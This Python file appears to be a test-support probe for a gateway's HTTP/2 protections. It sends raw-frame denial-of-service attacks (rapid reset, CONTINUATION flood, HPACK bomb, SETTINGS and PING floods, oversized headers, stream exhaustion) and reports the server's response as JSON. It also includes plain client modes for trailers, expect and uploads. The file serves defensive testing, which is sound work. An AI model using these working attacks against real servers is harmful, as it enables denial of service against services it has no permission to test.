#!/usr/bin/env python3
"""HTTP/2 attack probe for the gateway's HTTP/2 protection tests.

Sends one known HTTP/2 attack on ONE connection and prints what the server did
as a single JSON object line on stdout.

    /usr/bin/python3 Tests/Support/h2_probe.py --host 127.0.0.1 --port N [--tls]
        [--authority A] [--path /p] [--timeout S] [--idle S] ATTACK [--count K]

ATTACK: get | max-streams | rapid-reset | continuation-flood | settings-flood |
        ping-flood | empty-frames | hpack-bomb | big-headers | trailers | idle

Two modes are not attacks but plain clients for the integration tests:
  trailers  one GET of --path; "blocks" lists every header block of stream 1 in
            order (1xx, final head, trailers) as [name, value] pairs, "trailers" is
            the trailing block (or null), "body_sha256" the digest of the body.
  idle      one GET of --path, then reads (ignoring --idle) until the server sends
            GOAWAY or closes; "goaway_after_ms" is the time from the end of the
            response to the GOAWAY.
  expect    POST of --path with "expect: 100-continue" and content-length 5, the
            body ("hello") sent only once a 1xx HEADERS arrived or after 3 s;
            reports "blocks" like trailers, "interim_first" (the 1xx came before
            the body was sent) and the echoed body as "body".

  request-trailers  POST of --path: body "hello trailers", then trailing HEADERS
            (x-trailer-one: 1, x-checksum: sha256 of the body, and with
            --trailer-bytes N an x-big-trailer of N bytes); --with-length adds
            content-length, --trailer-delay S waits S seconds before the trailers. Reports "status", "body" (the response, text),
            "stream_reset" (the RST_STREAM error name, or null).
  upload    POST of --path with --size bytes in DATA frames as the gateway's
            windows allow, writing the bytes sent so far to --progress; reports
            "sent", "status" and "body".
These two use h2.connection.H2Connection (h2c only).

Frames are written raw (struct, 9-byte frame header) because the attacks are
exactly what h2.connection.H2Connection refuses to send, and its state machine
would also reject the server's frames on streams it thinks are closed. Names of
error/setting codes come from h2; header blocks use the hpack Encoder/Decoder
(attack header blocks are hand-crafted where exact bytes matter).

Stdlib + h2/hpack only. Exit 0 whenever the probe ran (even if the server
killed the connection); exit 1 only if it could not connect / handshake, or
on an internal failure before any I/O. The JSON line is printed in all cases.
"""

import argparse
import hashlib
import json
import os
import signal
import socket
import ssl
import struct
import sys
import time

import h2.errors
import h2.settings
import hpack

# Frame types
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM",
               4: "SETTINGS", 5: "PUSH_PROMISE", 6: "PING", 7: "GOAWAY",
               8: "WINDOW_UPDATE", 9: "CONTINUATION"}
# Flags
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_WINDOW = 2 ** 31 - 1

ATTACKS = ["get", "max-streams", "rapid-reset", "continuation-flood",
           "settings-flood", "ping-flood", "empty-frames", "hpack-bomb",
           "big-headers", "trailers", "idle", "expect", "request-trailers", "upload"]
# Modes driven by h2's own client state machine (flow control and trailers done right).
CLIENT_MODES = ["request-trailers", "upload"]
DEFAULT_COUNT = {"get": 1, "max-streams": 300, "rapid-reset": 2000,
                 "continuation-flood": 10000, "settings-flood": 10000,
                 "ping-flood": 10000, "empty-frames": 10000,
                 "hpack-bomb": 4000, "big-headers": 64, "trailers": 1, "idle": 1, "expect": 1,
                 "request-trailers": 1, "upload": 1}


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return "UNKNOWN_0x%x" % code


def setting_name(code):
    try:
        return h2.settings.SettingCodes(code).name
    except ValueError:
        return "UNKNOWN_0x%x" % code


# ---------------------------------------------------------------- frame building

def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", (n >> 16) & 0xFF, n & 0xFFFF, ftype, flags,
                       stream_id & 0x7FFFFFFF) + payload


def settings_frame(pairs=(), ack=False):
    payload = b"".join(struct.pack(">HI", k, v) for k, v in pairs)
    return frame(SETTINGS, ACK if ack else 0, 0, payload)


def rst_frame(stream_id, code):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def window_update_frame(stream_id, inc):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", inc))


def goaway_frame(last_stream_id, code):
    return frame(GOAWAY, 0, 0, struct.pack(">II", last_stream_id, code))


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """HPACK integer representation (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    """String literal, no Huffman."""
    if isinstance(s, str):
        s = s.encode("latin-1")
    return hpack_int(len(s), 7) + s


def literal_new_name(name, value, incremental=False):
    """Literal header field with a new name: without indexing (0x00) or with
    incremental indexing (0x40)."""
    return bytes([0x40 if incremental else 0x00]) + hpack_str(name) + hpack_str(value)


def literal_indexed_name(index, value):
    """Literal header field without indexing, name from the static table."""
    return hpack_int(index, 4, 0x00) + hpack_str(value)


def header_block_frames(stream_id, block, end_stream, max_frame):
    """HEADERS (+ CONTINUATION...) carrying one complete header block."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            flags = (END_STREAM if end_stream else 0) | (END_HEADERS if last else 0)
            out.append(frame(HEADERS, flags, stream_id, chunk))
        else:
            out.append(frame(CONTINUATION, END_HEADERS if last else 0, stream_id, chunk))
    return b"".join(out)


# ---------------------------------------------------------------- probe

class Deadline(Exception):
    pass


class Probe:
    def __init__(self, args):
        self.args = args
        self.start = time.monotonic()
        self.deadline = self.start + args.timeout
        self.sock = None
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder(max_header_list_size=2 ** 31)
        self.decoder.max_allowed_table_size = 2 ** 31
        self.rbuf = bytearray()
        self.scheme = "https" if args.tls else "http"
        self.authority = args.authority or "%s:%d" % (args.host, args.port)
        self.server_settings = {}
        self.server_max_frame = 16384
        self.server_table_size = 4096
        self.got_server_settings = False
        self.pending_block = None  # (stream_id, flags, bytearray) while awaiting CONTINUATION
        self.streams = {}  # stream_id -> {"status":..., "body":int, "done":bool, "reset":code}
        self.r = {
            "attack": args.attack,
            "count": args.count,
            "tls": bool(args.tls),
            "alpn": None,
            "goaway": False,
            "goaway_error": None,
            "goaway_debug": None,
            "last_stream_id": None,
            "responses": 0,
            "statuses": {},
            "body_bytes": 0,
            "resets_received": 0,
            "reset_codes": {},
            "refused_streams": 0,
            "closed": False,
            "connection_reset": False,
            "max_concurrent_streams": None,
            "server_settings": {},
            "settings_acks": 0,
            "ping_acks": 0,
            "frames_received": {},
            "bytes_sent": 0,
            "attack_bytes": 0,
            "send_complete": None,
            "streams_opened": 0,
            "elapsed_ms": None,
            "error": None,
        }

    # ------------------------------------------------------------ I/O
    def remaining(self):
        return self.deadline - time.monotonic()

    def connect(self):
        t = max(0.1, min(self.remaining(), 5.0))
        raw = socket.create_connection((self.args.host, self.args.port), timeout=t)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.args.tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            sni = self.args.authority.split(":")[0] if self.args.authority else None
            s = ctx.wrap_socket(raw, server_hostname=sni)
            self.r["alpn"] = s.selected_alpn_protocol()
            if self.r["alpn"] != "h2":
                raise RuntimeError("server did not negotiate h2 via ALPN (got %r)" % self.r["alpn"])
            self.sock = s
        else:
            self.sock = raw

    def send(self, data, reserve=0.0):
        """Send everything unless the deadline (minus `reserve` seconds kept for
        reading) passes or the peer goes away. Returns True if all was sent."""
        view = memoryview(data)
        off = 0
        limit = self.deadline - reserve
        while off < len(view):
            left = limit - time.monotonic()
            if left <= 0:
                return False
            self.sock.settimeout(min(left, 1.0))
            try:
                n = self.sock.send(view[off:off + 262144])
            except (socket.timeout, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                continue
            except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, ssl.SSLEOFError):
                # The server closed (a reset once it stops reading): what it sent before, such as
                # a GOAWAY, may still wait in our receive buffer, so reading goes on until EOF/reset.
                self.r["connection_reset"] = True
                self.r["send_failed"] = True
                return False
            off += n
            self.r["bytes_sent"] += n
        return True

    def recv_some(self, wait):
        """Read once (up to `wait` seconds). Returns False once the connection is closed."""
        if self.r["closed"]:
            return False
        self.sock.settimeout(max(0.01, wait))
        try:
            data = self.sock.recv(1 << 20)
        except (socket.timeout, ssl.SSLWantReadError):
            return True
        except (ConnectionResetError, ConnectionAbortedError, BrokenPipeError):
            self.r["closed"] = True
            self.r["connection_reset"] = True
            return False
        except ssl.SSLError as e:  # e.g. unexpected EOF
            self.r["closed"] = True
            self.r["tls_close"] = str(e)
            return False
        if not data:
            self.r["closed"] = True
            return False
        self.rbuf += data
        self.parse_frames()
        return True

    # ------------------------------------------------------------ frame parsing
    def parse_frames(self):
        buf = self.rbuf
        replies = []
        while len(buf) >= 9:
            length = (buf[0] << 16) | (buf[1] << 8) | buf[2]
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            sid = struct.unpack(">I", bytes(buf[5:9]))[0] & 0x7FFFFFFF
            payload = bytes(buf[9:9 + length])
            del buf[:9 + length]
            fr = self.r["frames_received"]
            name = FRAME_NAMES.get(ftype, "UNKNOWN_%d" % ftype)
            fr[name] = fr.get(name, 0) + 1
            replies.append(self.handle_frame(ftype, flags, sid, payload))
        out = b"".join(x for x in replies if x)
        if out and not self.r["closed"]:
            self.send(out)

    def stream(self, sid):
        st = self.streams.get(sid)
        if st is None:
            st = self.streams[sid] = {"status": None, "body": 0, "done": False, "reset": None}
        return st

    def handle_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS:
            if flags & ACK:
                self.r["settings_acks"] += 1
                return None
            for i in range(0, len(payload) - len(payload) % 6, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                self.server_settings[setting_name(k)] = v
                if k == 3:
                    self.r["max_concurrent_streams"] = v
                elif k == 5:
                    self.server_max_frame = v
                elif k == 1:
                    self.server_table_size = v
            self.r["server_settings"] = dict(self.server_settings)
            self.got_server_settings = True
            return settings_frame(ack=True)
        if ftype == PING:
            if flags & ACK:
                self.r["ping_acks"] += 1
                return None
            return frame(PING, ACK, 0, payload[:8])
        if ftype == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.r["goaway"] = True
            self.r["goaway_error"] = error_name(code)
            self.r["last_stream_id"] = last & 0x7FFFFFFF
            dbg = payload[8:]
            self.r["goaway_debug"] = dbg.decode("utf-8", "replace") if dbg else None
            return None
        if ftype == RST_STREAM:
            code = struct.unpack(">I", payload[:4])[0]
            n = error_name(code)
            self.r["resets_received"] += 1
            self.r["reset_codes"][n] = self.r["reset_codes"].get(n, 0) + 1
            if code == 7:
                self.r["refused_streams"] += 1
            self.stream(sid)["reset"] = n
            return None
        if ftype == DATA:
            if flags & PADDED and payload:
                pad = payload[0]
                body_len = len(payload) - 1 - pad
            else:
                body_len = len(payload)
            st = self.stream(sid)
            st["body"] += body_len
            self.r["body_bytes"] += body_len
            if "digest" in st:
                start = 1 if flags & PADDED and payload else 0
                st["digest"].update(payload[start:start + body_len])
                st["bytes"] += payload[start:start + body_len]
            if flags & END_STREAM:
                self.finish(sid)
            return None
        if ftype in (HEADERS, PUSH_PROMISE):
            p = payload
            if flags & PADDED:
                pad = p[0]
                p = p[1:len(p) - pad]
            if ftype == HEADERS and flags & PRIORITY_FLAG:
                p = p[5:]
            if ftype == PUSH_PROMISE:
                p = p[4:]
            self.pending_block = (ftype, sid, flags, bytearray(p))
            if flags & END_HEADERS:
                self.complete_block()
            return None
        if ftype == CONTINUATION:
            if self.pending_block is not None:
                self.pending_block[3].extend(payload)
                if flags & END_HEADERS:
                    self.complete_block()
            return None
        return None

    def complete_block(self):
        ftype, sid, flags, block = self.pending_block
        self.pending_block = None
        try:
            headers = self.decoder.decode(bytes(block), raw=True)
        except Exception as e:  # decoder out of sync: record and go on
            self.r["decode_error"] = "%s: %s" % (type(e).__name__, e)
            return
        if ftype == PUSH_PROMISE:
            return
        st = self.stream(sid)
        if "blocks" in st:
            st["blocks"].append([[k.decode("latin-1"), v.decode("latin-1")] for k, v in headers])
        for k, v in headers:
            if k == b":status":
                status = v.decode("latin-1")
                if not status.startswith("1"):
                    st["status"] = status
                    self.r["statuses"][status] = self.r["statuses"].get(status, 0) + 1
        if flags & END_STREAM:
            self.finish(sid)

    def finish(self, sid):
        st = self.stream(sid)
        if not st["done"]:
            st["done"] = True
            st["done_at"] = time.monotonic()
            if st["status"] is not None:
                self.r["responses"] += 1

    # ------------------------------------------------------------ helpers
    def request_headers(self, method="GET", extra=()):
        return [(":method", method), (":scheme", self.scheme),
                (":authority", self.authority), (":path", self.args.path)] + list(extra)

    def body_method(self):
        return self.args.method or "POST"

    def encode(self, headers):
        return self.encoder.encode(headers)

    def handshake(self):
        self.send(PREFACE + settings_frame([(2, 0), (4, MAX_WINDOW), (6, 1 << 24)])
                  + window_update_frame(0, MAX_WINDOW - 65535))
        # Wait (bounded) for the server's SETTINGS so the attack sees its limits.
        until = time.monotonic() + min(2.0, max(0.1, self.remaining() / 3))
        while not self.got_server_settings and not self.r["closed"]:
            left = until - time.monotonic()
            if left <= 0:
                break
            self.recv_some(min(left, 0.25))

    def read_until_done(self, done=lambda: False):
        """Keep reading until the server closes, `done()` holds, the deadline
        passes, or (before any GOAWAY) nothing arrives for --idle seconds."""
        last_rx = time.monotonic()
        while not self.r["closed"]:
            if done():
                return
            now = time.monotonic()
            left = self.deadline - now
            if left <= 0:
                self.r["deadline_hit"] = True
                return
            if self.args.idle > 0 and not self.r["goaway"]:
                idle_left = last_rx + self.args.idle - now
                if idle_left <= 0:
                    self.r["idle_stop"] = True
                    return
                wait = min(left, idle_left, 0.5)
            else:
                wait = min(left, 0.5)
            before = len(self.rbuf), sum(self.r["frames_received"].values())
            self.recv_some(wait)
            if (len(self.rbuf), sum(self.r["frames_received"].values())) != before:
                last_rx = time.monotonic()

    def reserve(self):
        return min(2.0, self.args.timeout / 4)

    def blast(self, data):
        self.r["attack_bytes"] = len(data)
        ok = self.send(data, reserve=self.reserve())
        self.r["send_complete"] = ok
        return ok

    # ------------------------------------------------------------ attacks
    def attack_get(self):
        n = self.args.count
        out = []
        for i in range(n):
            sid = 1 + 2 * i
            self.stream(sid)
            out.append(header_block_frames(sid, self.encode(self.request_headers()), True,
                                           self.server_max_frame))
        self.r["streams_opened"] = n
        self.blast(b"".join(out))
        ids = [1 + 2 * i for i in range(n)]
        self.read_until_done(lambda: all(self.streams[s]["done"] or self.streams[s]["reset"]
                                         for s in ids))
        if not self.r["closed"]:  # polite shutdown
            self.send(goaway_frame(0, 0))
        self.r["stream_results"] = {str(s): {"status": self.streams[s]["status"],
                                             "body_bytes": self.streams[s]["body"],
                                             "reset": self.streams[s]["reset"]}
                                    for s in ids[:20]}

    def attack_max_streams(self):
        n = self.args.count
        out = []
        for i in range(n):
            sid = 1 + 2 * i
            out.append(header_block_frames(
                sid, self.encode(self.request_headers(self.body_method(), [("content-type", "application/octet-stream")])),
                False, self.server_max_frame))
        self.r["streams_opened"] = n
        self.blast(b"".join(out))
        self.read_until_done()

    def attack_rapid_reset(self):
        n = self.args.count
        out = []
        for i in range(n):
            sid = 1 + 2 * i
            out.append(header_block_frames(sid, self.encode(self.request_headers()), True,
                                           self.server_max_frame))
            out.append(rst_frame(sid, 8))  # CANCEL
        self.r["streams_opened"] = n
        self.blast(b"".join(out))
        self.read_until_done()

    def attack_continuation_flood(self):
        n = self.args.count
        first = self.encode(self.request_headers())
        frag = literal_new_name("x-cont", "a" * 16)  # complete, valid, never indexed
        cont = frame(CONTINUATION, 0, 1, frag)
        self.r["streams_opened"] = 1
        self.r["decoded_header_bytes"] = n * (len("x-cont") + 16)
        self.blast(frame(HEADERS, END_STREAM, 1, first) + cont * n)
        self.read_until_done()

    def attack_settings_flood(self):
        self.blast(settings_frame() * self.args.count)
        self.read_until_done()

    def attack_ping_flood(self):
        n = self.args.count
        self.blast(b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(n)))
        self.read_until_done()

    def attack_empty_frames(self):
        n = self.args.count
        hdr = header_block_frames(1, self.encode(self.request_headers(
            self.body_method(), [("content-type", "application/octet-stream")])), False, self.server_max_frame)
        self.r["streams_opened"] = 1
        self.blast(hdr + frame(DATA, 0, 1) * n)
        self.read_until_done()

    def pseudo_block(self):
        """Request pseudo-headers without touching the dynamic table."""
        return (b"\x82"                                   # :method GET
                + (b"\x87" if self.args.tls else b"\x86")  # :scheme
                + literal_indexed_name(4, self.args.path)  # :path
                + literal_indexed_name(1, self.authority))  # :authority

    def attack_hpack_bomb(self):
        n = self.args.count
        name = "x-bomb"
        # One entry that (almost) fills the server decoder's table (default 4096).
        size = min(4096, self.server_table_size) - 32 - len(name)
        if size <= 0:
            raise RuntimeError("server HEADER_TABLE_SIZE %d too small for the bomb" % self.server_table_size)
        value = "b" * size
        # The encoder never touched the table on this connection (handshake sends no
        # header block), so the inserted entry is dynamic index 62 = 0xBE (indexed).
        insert = self.pseudo_block() + literal_new_name(name, value, incremental=True)
        bomb = self.pseudo_block() + b"\xbe" * n
        self.r["bomb_entry_bytes"] = size + len(name)
        self.r["bomb_wire_bytes"] = len(bomb)
        self.r["bomb_decoded_bytes"] = n * (size + len(name))
        self.r["streams_opened"] = 2
        self.stream(1)
        self.stream(3)
        self.blast(header_block_frames(1, insert, True, self.server_max_frame)
                   + header_block_frames(3, bomb, True, self.server_max_frame))
        self.read_until_done(lambda: all(self.streams[s]["done"] or self.streams[s]["reset"]
                                         for s in (1, 3)))
        self.r["stream_results"] = {str(s): {"status": self.streams[s]["status"],
                                             "reset": self.streams[s]["reset"]} for s in (1, 3)}

    def attack_big_headers(self):
        kib = self.args.count
        if self.args.single:
            fields = [literal_new_name("x-big", "h" * (kib * 1024 - 5 - 32))]
        else:
            # kib headers x-big-NNNNN of exactly 1 KiB each (name+value+32 = 1024).
            fields = []
            for i in range(kib):
                nm = "x-big-%05d" % i
                fields.append(literal_new_name(nm, "h" * (1024 - 32 - len(nm))))
        block = self.pseudo_block() + b"".join(fields)
        self.r["header_list_bytes"] = kib * 1024
        self.r["header_block_wire_bytes"] = len(block)
        self.r["streams_opened"] = 1
        self.stream(1)
        self.blast(header_block_frames(1, block, True, self.server_max_frame))
        self.read_until_done(lambda: self.streams[1]["done"] or self.streams[1]["reset"])
        self.r["status"] = self.streams[1]["status"]
        self.r["stream_reset"] = self.streams[1]["reset"]

    def attack_trailers(self):
        st = self.stream(1)
        st["blocks"] = []
        st["digest"] = hashlib.sha256()
        st["bytes"] = bytearray()
        self.r["streams_opened"] = 1
        self.blast(header_block_frames(1, self.encode(self.request_headers()), True, self.server_max_frame))
        self.read_until_done(lambda: st["done"] or st["reset"])
        if not self.r["closed"]:
            self.send(goaway_frame(0, 0))
        blocks = st["blocks"]
        self.r["status"] = st["status"]
        self.r["stream_reset"] = st["reset"]
        self.r["blocks"] = blocks
        final = [i for i, b in enumerate(blocks) if any(k == ":status" and not v.startswith("1") for k, v in b)]
        self.r["trailers"] = blocks[-1] if final and final[0] < len(blocks) - 1 else None
        self.r["body_sha256"] = st["digest"].hexdigest()

    def attack_expect(self):
        st = self.stream(1)
        st["blocks"] = []
        st["digest"] = hashlib.sha256()
        st["bytes"] = bytearray()
        self.r["streams_opened"] = 1
        body = b"hello"
        headers = self.request_headers("POST", [("content-length", str(len(body))), ("expect", "100-continue")])
        self.blast(header_block_frames(1, self.encode(headers), False, self.server_max_frame))
        until = time.monotonic() + min(3.0, max(0.1, self.remaining() / 2))

        def interim():
            return any(k == ":status" and v.startswith("1") for b in st["blocks"] for k, v in b)
        while not self.r["closed"] and not interim() and not st["done"] and not st["reset"]:
            left = until - time.monotonic()
            if left <= 0:
                break
            self.recv_some(min(left, 0.25))
        self.r["interim_first"] = interim()
        if not st["done"] and not st["reset"] and not self.r["closed"]:
            self.send(frame(DATA, END_STREAM, 1, body))
        self.read_until_done(lambda: st["done"] or st["reset"])
        if not self.r["closed"]:
            self.send(goaway_frame(0, 0))
        self.r["status"] = st["status"]
        self.r["stream_reset"] = st["reset"]
        self.r["blocks"] = st["blocks"]
        self.r["body"] = bytes(st["bytes"]).decode("latin-1")

    def attack_idle(self):
        st = self.stream(1)
        self.r["streams_opened"] = 1
        self.blast(header_block_frames(1, self.encode(self.request_headers()), True, self.server_max_frame))
        self.read_until_done(lambda: st["done"] or st["reset"])
        self.r["status"] = st["status"]
        done_at = st.get("done_at")
        saved_idle, self.args.idle = self.args.idle, 0
        self.read_until_done(lambda: self.r["goaway"])
        self.args.idle = saved_idle
        if self.r["goaway"] and done_at is not None:
            self.r["goaway_after_ms"] = int((time.monotonic() - done_at) * 1000)
        # Wait (briefly) for the close that follows the GOAWAY.
        until = time.monotonic() + min(2.0, max(0.0, self.remaining()))
        while not self.r["closed"] and time.monotonic() < until:
            self.recv_some(0.25)

    # ------------------------------------------------------------ run
    def run(self):
        connected = False
        try:
            self.connect()
            connected = True
            self.handshake()
            if not self.r["closed"]:
                getattr(self, "attack_" + self.args.attack.replace("-", "_"))()
        except Exception as e:
            self.r["error"] = "%s: %s" % (type(e).__name__, e)
        finally:
            self.r["elapsed_ms"] = int((time.monotonic() - self.start) * 1000)
            if self.sock is not None:
                try:
                    self.sock.close()
                except Exception:
                    pass
        if self.args.attack == "get" and self.args.count == 1:
            st = self.streams.get(1)
            self.r["status"] = st["status"] if st else None
        return 0 if connected else 1


# ---------------------------------------------------------------- h2 client modes

class Client:
    """One h2c connection run by h2's client state machine, for requests with bodies and trailers."""

    def __init__(self, args):
        import h2.config
        import h2.connection
        self.args = args
        self.deadline = time.monotonic() + args.timeout
        self.r = {"attack": args.attack, "status": None, "body": "", "stream_reset": None, "error": None,
                  "sent": 0}
        self.sock = socket.create_connection((args.host, args.port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self.body = bytearray()
        self.ended = False
        self.flush()

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.settimeout(max(0.1, self.deadline - time.monotonic()))
            self.sock.sendall(data)

    def pump(self, wait):
        """Reads once (up to `wait` seconds) and handles the events; False once the connection closed."""
        import h2.events
        import select
        if wait <= 0 and not select.select([self.sock], [], [], 0)[0]:
            return True
        self.sock.settimeout(max(0.01, wait))
        try:
            data = self.sock.recv(1 << 20)
        except socket.timeout:
            return True
        except (ConnectionResetError, BrokenPipeError):
            data = b""
        if not data:
            self.ended = True
            return False
        for event in self.conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                self.r["status"] = dict(event.headers).get(":status")
            elif isinstance(event, h2.events.DataReceived):
                self.body += event.data
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                self.ended = True
            elif isinstance(event, h2.events.StreamReset):
                self.r["stream_reset"] = error_name(event.error_code)
                self.ended = True
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.r["goaway_error"] = error_name(event.error_code)
                self.ended = True
        self.flush()
        return True

    def headers(self, extra=()):
        return [(":method", "POST"), (":scheme", "http"), (":authority", "%s:%d" % (self.args.host, self.args.port)),
                (":path", self.args.path)] + list(extra)

    def finish(self):
        while not self.ended and time.monotonic() < self.deadline:
            if not self.pump(min(0.5, self.deadline - time.monotonic())):
                break
        self.r["body"] = self.body.decode("utf-8", "replace")
        try:
            self.conn.close_connection()
            self.flush()
        except Exception:
            pass

    def request_trailers(self):
        body = b"hello trailers"
        extra = [("content-length", str(len(body)))] if self.args.with_length else []
        self.conn.send_headers(1, self.headers(extra))
        self.conn.send_data(1, body)
        if self.args.trailer_delay:
            # Let the head reach the upstream before the trailers come.
            self.flush()
            until = time.monotonic() + self.args.trailer_delay
            while time.monotonic() < until and not self.ended:
                self.pump(until - time.monotonic())
        trailers = [("x-trailer-one", "1"), ("x-checksum", hashlib.sha256(body).hexdigest())]
        if self.args.trailer_bytes:
            trailers.append(("x-big-trailer", "t" * self.args.trailer_bytes))
        self.conn.send_headers(1, trailers, end_stream=True)
        self.flush()
        self.finish()

    def upload(self):
        total = self.args.size
        self.conn.send_headers(1, self.headers([("content-length", str(total))]))
        self.flush()
        piece = bytes(range(256)) * 64
        sent = 0
        while sent < total and not self.ended and time.monotonic() < self.deadline:
            window = min(self.conn.local_flow_control_window(1), self.conn.max_outbound_frame_size)
            if window <= 0:
                self.pump(0.2)
                continue
            size = min(window, total - sent, len(piece))
            self.conn.send_data(1, piece[:size], end_stream=sent + size == total)
            self.flush()
            sent += size
            self.r["sent"] = sent
            if self.args.progress:
                with open(self.args.progress + ".tmp", "w") as f:
                    f.write(str(sent))
                os.replace(self.args.progress + ".tmp", self.args.progress)
            # Take window updates as they come, without waiting.
            self.pump(0.0)
        self.finish()

    def run(self):
        try:
            getattr(self, self.args.attack.replace("-", "_"))()
        except Exception as e:
            self.r["error"] = "%s: %s" % (type(e).__name__, e)
        finally:
            self.sock.close()
        return self.r


def main():
    ap = argparse.ArgumentParser(description="HTTP/2 attack probe (one JSON line on stdout)")
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true", help="TLS with ALPN h2, no verification")
    ap.add_argument("--authority", default=None, help="value of :authority (and SNI with --tls)")
    ap.add_argument("--path", default="/")
    ap.add_argument("--timeout", type=float, default=10.0, help="hard overall deadline, seconds")
    ap.add_argument("--idle", type=float, default=3.0,
                    help="after sending, stop reading once nothing arrived for this long "
                         "(not applied after a GOAWAY; 0 = read until close/deadline)")
    ap.add_argument("--method", default=None,
                    help="method for the never-finished request bodies of max-streams/empty-frames (default POST)")
    ap.add_argument("--single", action="store_true", help="big-headers: one huge value instead of 1 KiB headers")
    ap.add_argument("attack", choices=ATTACKS)
    ap.add_argument("--count", type=int, default=None)
    ap.add_argument("--with-length", action="store_true", help="request-trailers: send content-length")
    ap.add_argument("--trailer-bytes", type=int, default=0, help="request-trailers: a trailer of this many bytes")
    ap.add_argument("--trailer-delay", type=float, default=0, help="request-trailers: seconds before the trailers")
    ap.add_argument("--size", type=int, default=0, help="upload: body bytes")
    ap.add_argument("--progress", default="", help="upload: file with the bytes sent so far")
    args = ap.parse_args()
    if args.attack in CLIENT_MODES:
        sys.stdout.write(json.dumps(Client(args).run()) + "\n")
        sys.stdout.flush()
        return 0
    if args.count is None:
        args.count = DEFAULT_COUNT[args.attack]

    probe = Probe(args)

    def hard_stop(signum, frm):
        probe.r["error"] = "hard deadline exceeded"
        probe.r["elapsed_ms"] = int((time.monotonic() - probe.start) * 1000)
        sys.stdout.write(json.dumps(probe.r) + "\n")
        sys.stdout.flush()
        import os
        os._exit(0)

    signal.signal(signal.SIGALRM, hard_stop)
    signal.setitimer(signal.ITIMER_REAL, args.timeout + 2.0)
    rc = probe.run()
    signal.setitimer(signal.ITIMER_REAL, 0)
    sys.stdout.write(json.dumps(probe.r) + "\n")
    sys.stdout.flush()
    return rc


if __name__ == "__main__":
    sys.exit(main())
